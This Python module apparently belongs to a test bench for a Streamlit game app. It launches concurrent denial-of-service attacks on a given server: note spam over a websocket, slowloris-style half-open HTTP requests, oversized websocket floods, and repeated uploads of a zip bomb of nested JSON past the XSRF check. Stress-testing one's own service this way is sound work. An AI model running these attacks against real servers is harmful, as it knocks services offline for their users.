"""Two attackers on a server, in a process of their own: `_attackers.py`.

One is a seated phone that writes notes as fast as possible. The other uploads files that are expensive to unpack and
parse, begins requests without finishing them, and sends endless messages. Prints the counts of each as JSON once a
second.
"""

import asyncio
import io
import json
import os
import sys
from collections import Counter
from contextlib import suppress
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import httpx2
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException
from websockets.typing import Origin

from bench._session import Screen
from live import new_key

KINDS = ("notes", "half requests", "endless messages", "bombs")
HALF_REQUESTS = 60
SEAT = 1
# Who is put out hears no answer.
PATIENCE = 2.0
# What the attackers' own computer has to do is nothing that the server's has.
_NICE = 10
# As Streamlit names a file.
FILE = "8f0d9f7a-52f4-4a0e-8f0b-3d4f0c6f7c11"
FOLD, BUTTON = "All games as one file", "Bring these games in"


class Aim:
    """The target: server, table and identity; and the counts of attempts."""

    def __init__(self, address: str, code: str, cookie: str) -> None:
        self.address, self.code, self.cookie = address, code, cookie
        self.done: Counter[str] = Counter()

    def count(self, kind: str) -> None:
        """Count one attempt of a kind."""
        self.done[kind] += 1


async def _write(aim: Aim) -> None:
    """Write notes from a seated phone as fast as possible; reconnect when disconnected."""
    while True:
        async with Screen(aim.address, "seat", {"t": aim.code}, aim.cookie) as screen:
            await screen.listen(aim.code)
            with suppress(TimeoutError, WebSocketException):
                while True:
                    await _note(screen)
                    aim.count("notes")


async def _note(screen: Screen) -> None:
    async with asyncio.timeout(PATIENCE):
        # What is refused is tried again.
        with suppress(RuntimeError):
            await screen.act({"type": "note", "text": "blah " * 50, "seat": SEAT}, new_key())


async def _half(aim: Aim) -> None:
    """Begin requests without finishing them."""
    host, port = aim.address.removeprefix("http://").split(":")
    while True:
        begun = [await asyncio.open_connection(host, int(port)) for _ in range(HALF_REQUESTS)]
        for _reader, writer in begun:
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-")
            aim.count("half requests")
        await asyncio.sleep(3)
        for _reader, writer in begun:
            writer.close()


async def _endless(aim: Aim) -> None:
    """Send endless messages to a page's socket."""
    while True:
        address = f"ws://{aim.address.removeprefix('http://')}/_stcore/stream"
        with suppress(WebSocketException):
            async with connect(address, origin=Origin(aim.address), compression=None) as socket:
                aim.count("endless messages")
                await socket.send([b"x" * 65_536] * 64)
        await asyncio.sleep(0.2)


class Visitor(Screen):
    """A session that can upload a file."""

    session = uploader = fold = ""

    async def _take(self, message: ForwardMsg) -> None:
        if message.WhichOneof("type") == "new_session":
            self.session = message.new_session.initialize.session_id
        elif message.WhichOneof("type") == "delta" and message.delta.new_element.WhichOneof("type") == "file_uploader":
            self.uploader = message.delta.new_element.file_uploader.id
        elif message.WhichOneof("type") == "delta" and message.delta.add_block.expandable.label == FOLD:
            self.fold = message.delta.add_block.id
        await super()._take(message)

    def _opened(self) -> BackMsg:
        """Run the page with the expander open that contains the upload."""
        message = BackMsg()
        state = message.rerun_script.widget_states.widgets.add()
        state.id, state.bool_value = self.fold, True
        return message

    async def upload(self, address: str, raw: bytes) -> None:
        """Upload a file and pass it to the page."""
        await self._ask(self._opened())
        where = f"/_stcore/upload_file/{self.session}/{FILE}"
        async with httpx2.AsyncClient(base_url=address, headers={"origin": address}) as client:
            await client.get("/_stcore/health")
            token = client.cookies.get("_streamlit_xsrf") or ""
            await client.put(where, files={"file": ("games.zip", raw)}, headers={"x-xsrftoken": token})
        await self._ask(self._with_file(where, len(raw)))

    def _with_file(self, where: str, size: int) -> BackMsg:
        message = self._opened()
        state = message.rerun_script.widget_states.widgets.add()
        state.id = self.uploader
        file = state.file_uploader_state_value.uploaded_file_info.add()
        file.file_id, file.name, file.size = FILE, "games.zip", size
        file.file_urls.file_id = FILE
        file.file_urls.upload_url = file.file_urls.delete_url = where
        return message

    async def press(self, button: str, size: int) -> None:
        """Press a button of the page that shows the file."""
        message = self._with_file(f"/_stcore/upload_file/{self.session}/{FILE}", size)
        state = message.rerun_script.widget_states.widgets.add()
        state.id, state.trigger_value = self.buttons[button], True
        await self._ask(message)


async def _bring_in(aim: Aim) -> None:
    """Upload the file of `_bomb` again and again."""
    raw = _bomb()
    while True:
        async with Visitor(aim.address, "hall") as visitor:
            await visitor.upload(aim.address, raw)
            await visitor.press(BUTTON, len(raw))
            aim.count("bombs")
            await asyncio.sleep(20)


def _bomb() -> bytes:
    """A quarter of a megabyte that unpacks to hundreds, all of it JSON."""
    nested: Any = b'{"actions": [' + b'{"type": "note", "text": "x"},' * 9_000 + b'{"a": 1}]}'
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as parcel:
        parcel.writestr("people.json", b"{}")
        for number in range(250):
            parcel.writestr(f"games/{number}.json", nested)
    return out.getvalue()


async def _tell(aim: Aim) -> None:
    while True:
        await asyncio.sleep(1)
        sys.stdout.write(f"{json.dumps(aim.done)}\n")
        sys.stdout.flush()


async def _attack(aim: Aim) -> None:
    async with asyncio.TaskGroup() as group:
        for one in (_write, _half, _endless, _bring_in, _tell):
            group.create_task(one(aim))


if __name__ == "__main__":
    os.nice(_NICE)
    asyncio.run(_attack(Aim(*sys.argv[1:])))
